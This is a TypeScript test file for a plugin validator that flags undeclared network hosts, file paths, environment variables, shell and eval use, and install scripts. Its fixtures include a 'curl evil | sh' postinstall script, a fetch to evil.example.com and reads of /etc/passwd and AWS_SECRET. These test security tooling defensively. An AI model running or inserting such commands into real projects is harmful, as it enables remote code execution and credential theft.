import { symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  PluginError,
  type PluginMetadataInput,
  type PluginValidationError,
  PluginValidationResultSchema,
} from '@agentplug/models';
import { afterEach, describe, expect, it } from 'vitest';
import { PluginValidator, type ValidatePluginResult } from '../src/index';
import { createManifest, createPluginFolder, removePluginFolders } from './plugin-folder';

afterEach(removePluginFolders);

const benignMain = 'export class Plugin { constructor(metadata, config) { this.metadata = metadata; } }\n';

function codes(result: ValidatePluginResult, severity?: 'error' | 'warning'): string[] {
  return result.issues
    .filter((issue) => severity === undefined || issue.severity === severity)
    .map((issue) => issue.code);
}

async function validate(
  files: Record<string, string>,
  manifest: Record<string, unknown> | null = createManifest(),
  config: ConstructorParameters<typeof PluginValidator>[0] = {},
): Promise<ValidatePluginResult> {
  const folder = await createPluginFolder(files, manifest);
  return new PluginValidator(config).validatePlugin(folder);
}

describe('validatePlugin: a clean plugin', () => {
  it('is valid with score 100 and risk low, and matches the models schema', async () => {
    const result = await validate({ 'main.js': benignMain, 'README.md': '# x', LICENSE: 'MIT' });
    expect(result).toMatchObject({
      valid: true,
      errors: [],
      warnings: [],
      securityScore: 100,
      riskLevel: 'low',
    });
    expect(result.findings).toEqual([]);
    expect(result.scoreBreakdown).toEqual([]);
    expect(PluginValidationResultSchema.safeParse(result).success).toBe(true);
  });

  it.each([
    ['main', 'main.mjs'],
    ['main', 'main.cjs'],
    ['main', 'main/index.js'],
    ['main', 'main/index.mjs'],
    ['main', 'main/index.cjs'],
    ['calculator.main', 'calculator/main.js'],
    ['calculator.main', 'calculator.main.js'],
    ['lib/start', 'lib/start.js'],
  ])('resolves entry_point %s to %s', async (entryPoint, file) => {
    const result = await validate({ [file]: benignMain }, createManifest({ entry_point: entryPoint }));
    expect(result.errors).toEqual([]);
  });
});

describe('validatePlugin: structure', () => {
  it('reports a missing folder', async () => {
    const result = await new PluginValidator().validatePlugin(
      join(tmpdir(), 'agentplug-does-not-exist-4711'),
    );
    expect(result.valid).toBe(false);
    expect(codes(result)).toEqual(['PLUGIN_FOLDER_NOT_FOUND']);
  });

  it('reports a path that is a file, not a folder', async () => {
    const folder = await createPluginFolder({ 'main.js': benignMain });
    const result = await new PluginValidator().validatePlugin(join(folder, 'main.js'));
    expect(codes(result)).toEqual(['PLUGIN_FOLDER_NOT_FOUND']);
    expect(result.errors[0]).toContain('is not a folder');
  });

  it('reports a plugin.json over the size cap', async () => {
    const manifest = createManifest({ description: 'x'.repeat(1024 * 1024 + 10) });
    const result = await validate({ 'main.js': benignMain }, manifest, { maxFileSizeMb: 5 });
    expect(codes(result)).toEqual(['MANIFEST_TOO_LARGE']);
  });

  it('reports a socket in the folder as a special file', async () => {
    const folder = await createPluginFolder({ 'main.js': benignMain });
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(join(folder, 'control.sock'), resolve));
    try {
      const result = await new PluginValidator().validatePlugin(folder);
      expect(codes(result)).toEqual(['SPECIAL_FILE']);
      expect(result.issues[0]?.file).toBe('control.sock');
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('reports a missing plugin.json', async () => {
    const result = await validate({ 'main.js': benignMain }, null);
    expect(codes(result)).toEqual(['MANIFEST_NOT_FOUND']);
  });

  it('reports plugin.json that is not JSON, with line and column', async () => {
    const result = await validate({ 'main.js': benignMain, 'plugin.json': '{\n  "name": \n}' });
    expect(codes(result)).toEqual(['MANIFEST_UNREADABLE']);
    expect(result.errors[0]).toMatch(/plugin\.json:3:1/);
  });

  it('reports an entry point that does not resolve', async () => {
    const result = await validate({ 'other.js': benignMain });
    expect(codes(result, 'error')).toEqual(['ENTRY_NOT_FOUND']);
    expect(result.errors[0]).toContain('tried main.js, main.mjs, main.cjs, main/index.js');
  });

  it('reports more files than maxFiles', async () => {
    const result = await validate(
      { 'main.js': benignMain, 'a.md': '', 'b.md': '', 'c.md': '' },
      createManifest(),
      {
        maxFiles: 3,
      },
    );
    expect(codes(result, 'error')).toContain('TOO_MANY_FILES');
  });

  it('reports a file larger than maxFileSizeMb', async () => {
    const result = await validate({ 'main.js': benignMain, 'big.txt': 'x'.repeat(3000) }, createManifest(), {
      maxFileSizeMb: 0.001,
    });
    expect(codes(result, 'error')).toEqual(['FILE_TOO_LARGE']);
    expect(result.issues[0]?.file).toBe('big.txt');
  });

  it('reports extensions that are not allowed, and honours allowedExtensions', async () => {
    const files = { 'main.js': benignMain, 'tool.py': 'print(1)', 'run.sh': 'ls' };
    const result = await validate(files);
    expect(codes(result, 'error')).toEqual(['EXTENSION_NOT_ALLOWED', 'EXTENSION_NOT_ALLOWED']);
    const relaxed = await validate(files, createManifest(), {
      allowedExtensions: ['.js', '.json', 'py', '.sh'],
    });
    expect(relaxed.valid).toBe(true);
  });

  it('reports links that point outside the folder, and accepts links inside it', async () => {
    const folder = await createPluginFolder({ 'main.js': benignMain, 'data.txt': 'x' });
    await symlink(tmpdir(), join(folder, 'escape'));
    await symlink(join(folder, 'data.txt'), join(folder, 'inside.txt'));
    const result = await new PluginValidator().validatePlugin(folder);
    expect(codes(result)).toEqual(['LINK_OUTSIDE_FOLDER']);
    expect(result.issues[0]?.file).toBe('escape');
  });

  it('reports a .node binary as a native finding, blocked by default', async () => {
    const result = await validate({ 'main.js': benignMain, 'build/addon.node': '\u0000ELF' });
    expect(result.findings).toMatchObject([
      { code: 'NATIVE_BINARY', capability: 'native', file: 'build/addon.node' },
    ]);
    expect(codes(result, 'error')).toEqual(['BLOCKED_CAPABILITY']);
    const allowed = await validate(
      { 'main.js': benignMain, 'build/addon.node': '\u0000ELF' },
      createManifest(),
      {
        blockedCapabilities: [],
      },
    );
    expect(allowed.valid).toBe(true);
    expect(allowed.scoreBreakdown.map((deduction) => deduction.factor)).toEqual(['dangerous_imports']);
  });

  it('reports install scripts in a package.json', async () => {
    const packageJson = JSON.stringify(
      { name: 'x', scripts: { test: 'vitest', postinstall: 'curl evil | sh' } },
      null,
      2,
    );
    const result = await validate({ 'main.js': benignMain, 'package.json': packageJson });
    expect(result.findings).toMatchObject([
      { code: 'INSTALL_SCRIPT', capability: 'shell', file: 'package.json', line: 5 },
    ]);
    expect(codes(result, 'error')).toEqual(['BLOCKED_CAPABILITY']);
  });

  it('scans every code file, including nested and TypeScript ones', async () => {
    const result = await validate(
      {
        'main.js': benignMain,
        'lib/a.ts': "eval('x' as string);",
        'lib/types.d.ts': "declare const x: typeof import('vm');",
      },
      createManifest(),
      { blockedCapabilities: [] },
    );
    expect(result.findings).toMatchObject([{ code: 'EVAL_CALL', file: 'lib/a.ts', line: 1, column: 1 }]);
  });

  it('refuses a plugin with a file that does not parse (SCAN_INCOMPLETE), even with nothing blocked', async () => {
    const result = await validate({ 'main.js': benignMain, 'broken.js': 'function ( {' }, createManifest(), {
      blockedCapabilities: [],
      maxRiskLevel: 'critical',
    });
    expect(result.valid).toBe(false);
    expect(codes(result, 'error')).toEqual(['SCAN_INCOMPLETE']);
    expect(result.issues[0]?.file).toBe('broken.js');
    expect(result.errors[0]).toContain('does not parse');
    expect(result.findings.map((finding) => finding.code)).toEqual(['SCAN_INCOMPLETE']);
  });
});

describe('validatePlugin: metadata', () => {
  it('passes manifest issue codes and JSON paths through', async () => {
    const result = await validate(
      { 'main.js': benignMain },
      createManifest({ version: '1.0', plugin_id: 'Bad Id' }),
    );
    expect(codes(result, 'error').sort()).toEqual(['INVALID_PLUGIN_ID', 'INVALID_VERSION']);
    expect(result.errors).toContain(
      'plugin.json $.version: "1.0" is not a semantic version (MAJOR.MINOR.PATCH[-pre][+build]) (INVALID_VERSION)',
    );
  });

  it('reports missing required fields', async () => {
    const manifest = createManifest();
    delete manifest.author;
    const result = await validate({ 'main.js': benignMain }, manifest);
    expect(codes(result, 'error')).toEqual(['MISSING_FIELD']);
    expect(result.issues[0]?.path).toBe('$.author');
  });

  it('warns about unknown keys', async () => {
    const result = await validate({ 'main.js': benignMain }, createManifest({ autor: 'typo' }));
    expect(result.valid).toBe(true);
    expect(codes(result, 'warning')).toEqual(['UNKNOWN_KEY']);
  });

  it('reports a declared capability the Plugin class does not implement', async () => {
    const capabilities = [{ name: 'greet' }, { name: 'add' }];
    const main = 'export class Plugin { greet() { return "hi"; } }\n';
    const result = await validate({ 'main.js': main }, createManifest({ capabilities }));
    expect(result.valid).toBe(false);
    expect(result.errors).toEqual([
      'main.js: capability "add" is declared in plugin.json but main.js does not implement it (it implements: greet) (CAPABILITY_NOT_IMPLEMENTED)',
    ]);
  });

  it("reports a config.json and a default that break the plugin's own config_schema", async () => {
    const config_schema = {
      type: 'object',
      properties: { units: { type: 'string', enum: ['metric', 'imperial'], default: 'kelvin' } },
    };
    const result = await validate(
      { 'main.js': benignMain, 'config.json': JSON.stringify({ config: { units: 'furlongs' } }) },
      createManifest({ config_schema }),
    );
    expect(result.valid).toBe(false);
    expect(codes(result, 'error')).toEqual(['CONFIG_DEFAULT_INVALID', 'CONFIG_INVALID']);
  });

  it('refuses a misspelled config_schema that would silently drop the configuration checks', async () => {
    const result = await validate(
      { 'main.js': benignMain },
      createManifest({ config_shema: { type: 'object', properties: { units: { type: 'string' } } } }),
    );
    expect(result.valid).toBe(false);
    expect(codes(result, 'error')).toEqual(['MISSPELLED_KEY']);
  });

  it('reports capability parameter schemas that do not compile', async () => {
    const capabilities = [
      { name: 'run', parameters: { type: 'object', properties: { a: { $ref: '#/$defs/missing' } } } },
    ];
    const main = 'export class Plugin { run() {} }\n';
    const result = await validate({ 'main.js': main }, createManifest({ capabilities }));
    expect(codes(result, 'error')).toEqual(['INVALID_PARAMETERS_SCHEMA']);
    expect(result.issues[0]?.path).toBe('$.capabilities[0].parameters');
  });

  it('reports a config_schema that does not compile', async () => {
    const result = await validate(
      { 'main.js': benignMain },
      createManifest({ config_schema: { type: 'object', properties: { a: { $ref: '#/nowhere' } } } }),
    );
    expect(codes(result, 'error')).toEqual(['INVALID_CONFIG_SCHEMA']);
  });

  it('reports a dependency constraint that does not parse (via @agentplug/version)', async () => {
    const dependencies = [
      { plugin_id: 'com.example.good', version_constraint: '>=1.0.0,<2.0.0' },
      { plugin_id: 'com.example.bad', version_constraint: '>=banana' },
    ];
    const result = await validate({ 'main.js': benignMain }, createManifest({ dependencies }));
    expect(codes(result, 'error')).toEqual(['INVALID_CONSTRAINT']);
    expect(result.issues[0]?.path).toBe('$.dependencies[1].version_constraint');
  });

  it('reports runtime bounds that no version satisfies', async () => {
    const manifest = createManifest({ min_runtime_version: '2.0.0', max_runtime_version: '1.5.0' });
    const result = await validate({ 'main.js': benignMain }, manifest);
    expect(codes(result, 'error')).toEqual(['INVALID_RUNTIME_RANGE']);
    const fine = await validate(
      { 'main.js': benignMain },
      createManifest({ min_runtime_version: '1.0.0', max_runtime_version: '1.0.0' }),
    );
    expect(fine.valid).toBe(true);
  });

  it('checks the metadata given instead of plugin.json', async () => {
    const folder = await createPluginFolder({ 'main.js': benignMain });
    const validator = new PluginValidator();
    const result = await validator.validatePlugin(
      folder,
      createManifest({ entry_point: 'missing' }) as PluginMetadataInput,
    );
    expect(codes(result, 'error')).toEqual(['ENTRY_NOT_FOUND']);
  });
});

describe('validatePlugin: permission cross-check', () => {
  const network = (hosts: string[]) => createManifest({ permissions: { network_hosts: hosts } });

  it('errors on a literal host that network_hosts does not declare, naming file and line', async () => {
    const result = await validate(
      { 'main.js': "\nfetch('https://evil.example.com/x');" },
      network(['api.example.com']),
    );
    expect(codes(result, 'error')).toEqual(['UNDECLARED_HOST']);
    expect(result.errors[0]).toBe(
      'main.js:2:1: connects to evil.example.com, which permissions.network_hosts does not declare (UNDECLARED_HOST)',
    );
  });

  it('accepts declared hosts, wildcards and ports', async () => {
    const code =
      "fetch('https://api.example.com/x'); fetch('https://eu.cdn.example.org/y'); fetch('http://localhost:8080/');";
    const result = await validate(
      { 'main.js': code },
      network(['api.example.com', '*.example.org', 'localhost:8080']),
    );
    expect(result.issues).toEqual([]);
    expect(result.valid).toBe(true);
  });

  it('errors on a port that the declared host:port does not cover', async () => {
    const result = await validate(
      { 'main.js': "fetch('http://localhost:9999/');" },
      network(['localhost:8080']),
    );
    expect(codes(result, 'error')).toEqual(['UNDECLARED_HOST']);
  });

  it('warns when the network target is not statically known', async () => {
    const result = await validate(
      { 'main.js': 'export const get = (url) => fetch(url);' },
      network(['api.example.com']),
    );
    expect(codes(result)).toEqual(['UNKNOWN_NETWORK_TARGET']);
    expect(result.valid).toBe(true);
  });

  it('errors when the code uses the network and network_hosts is empty', async () => {
    const result = await validate({ 'main.js': 'export const get = (url) => fetch(url);' });
    expect(codes(result)).toEqual(['UNDECLARED_NETWORK']);
  });

  it('errors on a literal path outside filesystem_read and filesystem_write', async () => {
    const code = "const fs = require('fs'); fs.readFileSync('/etc/passwd'); fs.writeFileSync('/var/x', '');";
    const manifest = createManifest({
      permissions: { filesystem_read: ['/tmp/cache'], filesystem_write: ['/tmp/out'] },
    });
    const result = await validate({ 'main.js': code }, manifest);
    expect(codes(result, 'error')).toEqual(['UNDECLARED_READ_PATH', 'UNDECLARED_WRITE_PATH']);
    expect(codes(result, 'warning')).toEqual(['UNUSED_PERMISSION', 'UNUSED_PERMISSION']);
  });

  it('accepts paths under declared folders, and reads of the plugin folder', async () => {
    const code = [
      "const fs = require('fs');",
      "const path = require('path');",
      "fs.readFileSync('/tmp/cache/a.json');",
      "fs.writeFileSync('/tmp/out/sub/b.txt', '');",
      "fs.readFileSync(path.join(__dirname, 'data', 'c.json'));",
    ].join('\n');
    const manifest = createManifest({
      permissions: { filesystem_read: ['/tmp/cache'], filesystem_write: ['/tmp/out/'] },
    });
    const result = await validate({ 'main.js': code }, manifest);
    expect(result.issues).toEqual([]);
  });

  it('warns when a path is not statically known', async () => {
    const manifest = createManifest({ permissions: { filesystem_read: ['/tmp/cache'] } });
    const result = await validate(
      { 'main.js': "export const read = (p) => require('fs').readFileSync(p);" },
      manifest,
    );
    expect(codes(result)).toEqual(['UNKNOWN_PATH']);
  });

  it('errors on a write to an unknown path when filesystem_write is empty', async () => {
    const result = await validate({
      'main.js': "export const save = (p) => require('fs').writeFileSync(p, '');",
    });
    expect(codes(result)).toEqual(['UNDECLARED_WRITE_PATH']);
  });

  it('errors on an environment variable not declared, warns on a computed one', async () => {
    const manifest = createManifest({ permissions: { environment_variables: ['API_KEY'] } });
    const declared = await validate({ 'main.js': 'process.env.API_KEY;' }, manifest);
    expect(declared.issues).toEqual([]);
    const undeclared = await validate(
      { 'main.js': 'process.env.API_KEY; process.env.AWS_SECRET;' },
      manifest,
    );
    expect(codes(undeclared)).toEqual(['UNDECLARED_ENV_VARIABLE']);
    expect(undeclared.errors[0]).toContain('main.js:1:22');
    const computed = await validate(
      { 'main.js': 'export const read = (name) => process.env[name];' },
      manifest,
    );
    expect(codes(computed)).toEqual(['UNKNOWN_ENV_VARIABLE']);
  });

  it('warns about declared permissions no code uses (least privilege)', async () => {
    const manifest = createManifest({
      permissions: {
        network_hosts: ['api.example.com'],
        environment_variables: ['UNUSED'],
        filesystem_read: ['/data'],
      },
    });
    const result = await validate({ 'main.js': benignMain }, manifest);
    expect(result.valid).toBe(true);
    expect(codes(result, 'warning')).toEqual(['UNUSED_PERMISSION', 'UNUSED_PERMISSION', 'UNUSED_PERMISSION']);
    expect(result.issues.map((issue) => issue.path).sort()).toEqual([
      '$.permissions.environment_variables',
      '$.permissions.filesystem_read',
      '$.permissions.network_hosts',
    ]);
  });

  it.each([
    ['shell', "require('child_process').exec('ls');"],
    ['eval', "eval('x');"],
    ['native', "require('./x.node');"],
  ])('errors on any %s use, blocked by default', async (capability, code) => {
    const result = await validate({ 'main.js': code });
    expect(new Set(codes(result, 'error'))).toEqual(new Set(['BLOCKED_CAPABILITY']));
    expect(result.errors[0]).toContain(`blocks ${capability}`);
    expect(result.errors[0]).toMatch(/^main\.js:1:1: /);
  });

  it('errors on blocked imports, including subpaths and the eval entry', async () => {
    const code = "import axios from 'axios'; import x from 'lodash/fp'; eval('1');";
    const result = await validate({ 'main.mjs': code }, createManifest(), {
      blockedImports: ['lodash', 'eval'],
      blockedCapabilities: [],
    });
    expect(codes(result, 'error').sort()).toEqual(['BLOCKED_IMPORT', 'BLOCKED_IMPORT', 'UNDECLARED_NETWORK']);
  });
});

describe('validatePlugin: score and risk', () => {
  it('deducts each factor once, with evidence, from what is declared or detected', async () => {
    const manifest = createManifest({
      permissions: {
        network_hosts: ['api.example.com'],
        external_apis: ['weather'],
        environment_variables: ['KEY'],
      },
    });
    const code = "fetch('https://api.example.com/a'); fetch('https://api.example.com/b'); process.env.KEY;";
    const result = await validate({ 'main.js': code }, manifest);
    expect(result.securityScore).toBe(75);
    expect(result.riskLevel).toBe('medium');
    expect(result.scoreBreakdown.map(({ factor, points }) => [factor, points])).toEqual([
      ['network', -10],
      ['environment_variables', -5],
      ['external_apis', -10],
    ]);
    expect(result.scoreBreakdown[0]?.evidence).toEqual([
      'declared permissions.network_hosts: api.example.com',
      'main.js:1:1 NETWORK_REQUEST: connects to api.example.com with fetch',
      'main.js:1:37 NETWORK_REQUEST: connects to api.example.com with fetch',
    ]);
  });

  it('fails a plugin whose risk is worse than maxRiskLevel, saying so', async () => {
    const manifest = createManifest({
      permissions: { external_apis: ['a'], environment_variables: ['KEY'] },
    });
    const files = { 'main.js': 'process.env.KEY;' };
    const relaxed = await validate(files, manifest);
    expect(relaxed).toMatchObject({ valid: true, securityScore: 85, riskLevel: 'low' });
    const shell = await validate(
      {
        'main.js': "process.env.KEY; require('child_process'); require('fs').writeFileSync('/tmp/x/y', '');",
      },
      createManifest({
        permissions: {
          external_apis: ['a'],
          environment_variables: ['KEY'],
          filesystem_write: ['/tmp/x'],
          network_hosts: ['a.example.com'],
        },
      }),
      { blockedCapabilities: [] },
    );
    expect(shell).toMatchObject({ securityScore: 30, riskLevel: 'critical', valid: false });
    expect(codes(shell, 'error')).toEqual(['RISK_TOO_HIGH']);
    expect(shell.errors[0]).toBe(
      'the risk level is critical (security score 30/100), worse than the allowed maximum high (maxRiskLevel) (RISK_TOO_HIGH)',
    );
    const strict = await validate(
      files,
      createManifest({ permissions: { external_apis: ['a'], network_hosts: ['x.example.com'] } }),
      {
        maxRiskLevel: 'low',
      },
    );
    expect(strict.riskLevel).toBe('medium');
    expect(codes(strict, 'error')).toContain('RISK_TOO_HIGH');
  });
});

describe('PluginValidator', () => {
  it('rejects a bad security config with INVALID_ARGUMENT', () => {
    for (const config of [
      { maxFileSizeMb: -1 },
      { maxFiles: 0 },
      { maxRiskLevel: 'extreme' },
      { blockedCapabilities: ['teleport'] },
      { allowedExtensions: [''] },
      { cache: 'yes' },
    ]) {
      expect(() => new PluginValidator(config as never), JSON.stringify(config)).toThrow(
        expect.objectContaining({ code: 'INVALID_ARGUMENT' }),
      );
    }
  });

  it('rejects a pluginPath that is not a string with INVALID_ARGUMENT', async () => {
    await expect(new PluginValidator().validatePlugin('' as string)).rejects.toSatisfy((error) =>
      PluginError.is(error, 'INVALID_ARGUMENT'),
    );
  });

  it('assertPluginValid throws PluginValidationError carrying the result', async () => {
    const folder = await createPluginFolder({ 'main.js': "eval('x');" });
    const error = await new PluginValidator().assertPluginValid(folder).catch((caught: unknown) => caught);
    expect(PluginError.is(error, 'VALIDATION_FAILED')).toBe(true);
    expect((error as PluginValidationError).validationResult.valid).toBe(false);
  });

  it('returns the cached verdict for an unchanged plugin and re-validates a changed one', async () => {
    const folder = await createPluginFolder({ 'main.js': benignMain, 'lib/a.js': 'export const a = 1;' });
    const validator = new PluginValidator({ blockedCapabilities: [] });
    const first = await validator.validatePlugin(folder);
    const second = await validator.validatePlugin(folder);
    expect(second).toEqual(first);
    second.errors.push('mutated');
    expect((await validator.validatePlugin(folder)).errors).toEqual([]);
    await writeFile(join(folder, 'lib/a.js'), "export const a = eval('1');");
    const changed = await validator.validatePlugin(folder);
    expect(changed.findings.map((finding) => finding.code)).toEqual(['EVAL_CALL']);
    const uncached = await new PluginValidator({ blockedCapabilities: [], cache: false }).validatePlugin(
      folder,
    );
    expect(uncached).toEqual(changed);
  });
});
